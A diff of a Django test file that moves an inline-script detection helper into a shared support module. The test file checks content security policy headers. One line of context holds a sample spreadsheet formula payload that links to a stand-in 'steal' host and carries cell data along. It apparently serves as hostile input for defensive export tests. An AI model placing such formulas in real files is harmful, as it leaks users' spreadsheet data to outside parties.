@@ -18,7 +18,7 @@ from django.core.management import CommandError, call_command
 from accounts.models import User
 from targets.models import MonthlyCount, SubDistrict
 from tasks.models import KeyTask
-from tests.enterprises.helpers import firm
+from tests.support import firm, inline_code
 
 BASE_DIR = Path(settings.BASE_DIR)
 HOSTILE = '=HYPERLINK("http://x.example/steal?d="&A1,"点击查看")'
@@ -56,16 +56,6 @@ def test_pages_for_a_logged_in_user_carry_the_policy(login, leader):
     response = login(leader).get("/")
     assert response.status_code == 200
     assert policy(response) == CSP
-
-
-INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.IGNORECASE)
-INLINE_HANDLER = re.compile(r"""\son[a-z]+\s*=\s*["']""", re.IGNORECASE)
-
-
-def inline_code(html):
-    """Inline scripts, event handler attributes and javascript: links, which the policy blocks."""
-    found = INLINE_SCRIPT.findall(html) + INLINE_HANDLER.findall(html)
-    return found + (["javascript:"] if "javascript:" in html.lower() else [])
 
 
 def test_no_template_has_inline_script_or_handler():
